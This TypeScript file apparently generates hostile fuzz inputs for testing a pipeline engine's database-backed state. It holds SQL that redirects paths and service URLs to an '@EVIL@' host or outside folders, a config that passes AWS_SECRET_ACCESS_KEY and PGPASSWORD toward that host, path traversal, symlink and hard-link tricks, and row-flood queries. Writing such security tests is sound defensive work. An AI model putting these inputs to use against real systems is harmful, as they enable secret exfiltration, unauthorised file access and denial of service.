import { type Draft, draft } from '../input.ts';
import type { Random } from '../random.ts';
import { json, places, share } from './hostile.ts';

/**
 * An engine whose rows a stranger may write, as steps that change one of ours, a line each; see `check/engine.ts`, which carries them out.
 * A column is named by a share of all columns that the engine has: new ones are drawn too. `@…@` stands for what is only known there: `@OUTSIDE@`
 * a folder that nothing may read from or write to, `@EVIL@` where the stranger listens, `@RUN@` the run directory.
 */

/** What is asked of the engine: a command of its owner, or a process that leads a run or works on it. */
export const engineForms = [
  'lead',
  'lead-bullmq',
  'only-lead',
  'detach',
  'worker',
  'far-worker',
  'manifest',
  'manifest-elsewhere',
  'manifest-mine',
  'export',
  'export-files',
  'report',
  'status',
  'status-json',
  'ls',
  'ls-json',
  'verify',
  'clean',
  'remove',
  'serve',
  'show',
  'resolve',
  'plan',
  'plan-file',
  'stop',
] as const;

/** Where facts of a run are known by name. */
const facts = [
  'run.last',
  'run.directory',
  'pipeline.text',
  'pipeline.path',
  'pipeline.sha256',
  'artifacts.place',
  'artifacts.owner',
  'state.maker',
  'services',
  'submissions',
  'submissions.counted',
  'redo',
  'kind.closed x',
  'unheard-of',
] as const;

const pipelineText = (more: string, steps: string): string => `name: foxes\n${more}\nsteps: ${steps}\n`;

/** Pipelines by which a stranger asks for what lies on the machine that works. */
const pipelines = [
  pipelineText('matrix: { rows: ../outside/table.csv }', '{ grid: { imagine: "{{ animal }}" } }'),
  pipelineText('matrix: { rows: "@OUTSIDE@/table.csv" }', '{ grid: { imagine: "{{ animal }}" } }'),
  pipelineText('matrix: { rows: "../outside/*.csv" }', '{ grid: { imagine: "{{ animal }}" } }'),
  pipelineText('', '{ grid: { imagine: "a", images: ["@OUTSIDE@/private.png"] } }'),
  pipelineText('', '{ look: { generate: { model: m, prompt: a, images: ["../outside/private.png"] } } }'),
  pipelineText('', '{ look: { generate: { model: m, prompt: a, images: ["http://@EVIL@/private.png"] } } }'),
  pipelineText('service: { baseUrl: "http://@EVIL@" }', '{ grid: { imagine: a } }'),
  pipelineText(
    'service: { baseUrl: "http://@EVIL@", auth: none }',
    '{ look: { generate: { model: m, prompt: a, images: [own.png] } } }',
  ),
  pipelineText(
    'service: { baseUrl: "http://@EVIL@", apiKey: "${AWS_SECRET_ACCESS_KEY}" }',
    '{ grid: { imagine: a } }',
  ),
  pipelineText('service: { id: "${PGPASSWORD}" }', '{ grid: { imagine: a } }'),
  'name: ../../../outside/x\nsteps: { grid: { imagine: a } }\n',
  'name: [',
  '',
] as const;

const quoted = (text: string): string => `'${text.replaceAll("'", "''")}'`;

const ofSpec = (path: string, value: unknown): string =>
  `UPDATE promptpress.runs SET spec = jsonb_set(spec::jsonb, '{${path}}', ${quoted(JSON.stringify(value))}::jsonb)::text`;

const setFact = (name: string, value: string): string =>
  `INSERT INTO promptpress.facts SELECT run, ${quoted(name)}, ${quoted(value)} FROM promptpress.runs WHERE name = 'foxes' ON CONFLICT (run, name) DO UPDATE SET value = excluded.value`;

const lastRun = (more: object): string =>
  `UPDATE promptpress.facts SET value = (value::jsonb || ${quoted(JSON.stringify(more))}::jsonb)::text WHERE name = 'run.last'`;

/** Rows in great number, and rows that name one another. */
const crowds = [
  `INSERT INTO promptpress.sessions (name, run, seen) SELECT 'w' || g, 1, clock_timestamp() FROM generate_series(1, 3000) g`,
  `INSERT INTO promptpress.runs (name, spec) SELECT 'r' || g, spec FROM promptpress.runs, generate_series(1, 300) g WHERE name = 'foxes'`,
  `INSERT INTO promptpress.runs (name, spec) SELECT repeat('x', 100000), spec FROM promptpress.runs WHERE name = 'foxes'`,
  `INSERT INTO promptpress.slices (run, n, cells) SELECT 1, 100 + g, s.cells FROM promptpress.slices s, generate_series(1, 500) g WHERE s.n = 1`,
  `INSERT INTO promptpress.redos SELECT run, md5(g::text), g % 4, '' FROM promptpress.runs, generate_series(1, 3000) g`,
  `INSERT INTO promptpress.redos SELECT run, key, 0, 'x' FROM promptpress.jobs`,
  `INSERT INTO promptpress.facts_late (run, key, submitted, lease, task) SELECT run, key, g, '1/1/1', g::text FROM promptpress.jobs, generate_series(1, 500) g`,
  `INSERT INTO promptpress.attempts SELECT run, slice, rev, part + g, number, key, task, doc FROM promptpress.attempts, generate_series(1, 500) g`,
  `INSERT INTO promptpress.jobs SELECT run, slice, rev, number + g, session, tokens, assumed, cost, possible, charged_cost, charged_tokens, attempts, unanswered, open, trouble, root, status, md5(key || g), code, slot, step, sender, replace(doc, key, md5(key || g)), said FROM promptpress.jobs, generate_series(1, 500) g`,
  `INSERT INTO promptpress.totals (run, slice, jobs, attempts, status, code) SELECT run, g, -1, 1, 'x' || g, repeat('c', 1000) FROM promptpress.runs, generate_series(1, 1000) g`,
  `INSERT INTO promptpress.inputs SELECT run, '@OUTSIDE@/' || g, 'x', 1, 1 FROM promptpress.runs, generate_series(1, 1000) g`,
  `UPDATE promptpress.jobs SET status = 'in-doubt', open = false, trouble = true`,
  `UPDATE promptpress.jobs SET status = 'done', open = false`,
  `UPDATE promptpress.jobs SET key = 'x', doc = replace(doc, key, 'x') WHERE open`,
  `UPDATE promptpress.slices SET done = false, holder = NULL`,
  `UPDATE promptpress.slices SET lease_until = 'infinity', lease_holder = 'x', holder = 1`,
  `UPDATE promptpress.slices SET not_before = 'infinity'`,
  `UPDATE promptpress.sessions SET over = false, seen = 'infinity'`,
  `UPDATE promptpress.runs SET lead_until = 'infinity', lead_epoch = 9`,
  `UPDATE promptpress.runs SET cared_until = 'infinity', carer = 'x'`,
  `UPDATE promptpress.schema_version SET version = 99`,
  `INSERT INTO promptpress.schema_version VALUES (99)`,
  `DELETE FROM promptpress.schema_version`,
] as const;

/** What is said of places on the machine of whoever reads it. */
function aimed(random: Random): string {
  // What lies outside comes first in both lists.
  const outside = random.happens(0.5);
  const place = random.pick(outside ? places.slice(0, 5) : places);
  const text = random.pick(outside ? pipelines.slice(0, 3) : pipelines);
  // A state that names a folder, or a file of this machine as its table.
  if (random.happens(0.3))
    return random.pick([
      `sql ${setFact('run.directory', JSON.stringify({ path: place, host: 'x' }))}`,
      `sql ${lastRun({ filesRoot: random.pick(['/', '@OUTSIDE@', place]), tables: [] })}\tsql ${setFact('pipeline.text', text)}`,
    ]);
  return random.pick([
    `sql ${ofSpec('place,path', place)}`,
    `sql ${ofSpec('place', { kind: random.pick(['folder', 's3', 'x']), path: place, url: place, id: random.pick(['x', '@OWNER@']) })}`,
    `sql ${ofSpec('filesRoot', place)}`,
    `sql ${ofSpec('pipeline,folder', place)}`,
    `sql ${ofSpec('pipeline,file', place)}`,
    `sql ${ofSpec('pipeline,text', text)}`,
    `sql ${ofSpec('service', { id: 'fuzz', origin: 'http://@EVIL@', baseUrl: 'http://@EVIL@' })}\tsql ${ofSpec('pipeline,text', text)}`,
    `sql ${ofSpec('queue', { kind: random.pick(['redis', 'lease', 'bullmq', 'x']), url: random.pick(['redis://@EVIL@', 'rediss://@EVIL@/0', place]) })}`,
    `sql ${ofSpec('tables', [{ declared: place, format: random.pick(['csv', 'files', 'json', 'x']), columns: ['animal'] }])}`,
    `sql ${setFact(random.pick(facts), place)}`,
    `sql ${setFact('artifacts.place', 's3://evil/set')}`,
    `sql ${setFact('pipeline.text', text)}`,
    `sql ${lastRun({ filesRoot: random.pick(['/', '@OUTSIDE@', place]), tables: random.pick([[], [{ file: place, sha256: '0'.repeat(64), bytes: 1, copied: random.happens(0.5) }]]) })}\tsql ${setFact('pipeline.text', text)}\tsql ${setFact('pipeline.path', random.pick(['/pipeline.yaml', place]))}`,
    `sql UPDATE promptpress.jobs SET doc = jsonb_set(doc::jsonb, '{artifacts,0,file}', ${quoted(JSON.stringify(place))}::jsonb)::text WHERE doc LIKE '%"artifacts"%'`,
    `sql UPDATE promptpress.jobs SET doc = replace(doc, 'images/', '../../../outside/')`,
    `sql UPDATE promptpress.jobs SET doc = replace(doc, 'http://127.0.0.1', 'http://@EVIL@/')`,
    `sql UPDATE promptpress.runs SET name = ${quoted(place)} WHERE name = 'foxes'`,
    `bomb`,
  ]);
}

/** A mark of a folder that all workers share, and what whoever may write there puts into it. */
function shared(random: Random): string {
  const files = [
    'engine.json',
    'images',
    'images/00',
    'images/.incoming',
    '@IMAGE@',
    'manifest.csv',
    'run.json',
    'inputs',
    'inputs/@TABLE@',
    'submissions-0',
    'submissions-f',
    'report',
    'state.db',
    'text',
  ];
  const name = random.pick(files);
  return random.pick([
    `link ${name} ${random.pick(['outside', 'outside/file', 'outside/private.png', 'outside/new', 'outside/folder', '/dev/zero'])}`,
    `hard ${name} ${random.pick(['outside/file', 'outside/private.png'])}`,
    `pipe ${name}`,
    `folder ${name}`,
    `empty ${name}`,
    `remove ${name}`,
    `mark ${random.pick(['{', '[]', '{"engine":1,"place":2}', '{"engine":"x#foxes","place":"@OWNER@"}', JSON.stringify({ engine: '@ENGINE@', place: random.pick(places) }), ' '.repeat(70_000)])}`,
  ]);
}

function step(random: Random): string {
  const chosen = random.next();
  if (chosen < 0.4) return aimed(random);
  if (chosen < 0.45) return shared(random);
  if (chosen < 0.52) return `sql ${random.pick(crowds)}`;
  if (chosen < 0.54) return `gone ${share(random)}`;
  // What is a document is changed within.
  return `${chosen < 0.8 ? 'within' : 'cell'} ${share(random)} ${share(random)} ${share(random)} ${json(random)}`;
}

export function hostileEngine(random: Random): Draft {
  // Those that write and send are asked most.
  const form = random.happens(0.3) ? random.pick(['lead', 'worker', 'far-worker']) : random.pick(engineForms);
  return draft(form, ...random.some(1, random.pick([1, 2, 4]), () => step(random)));
}
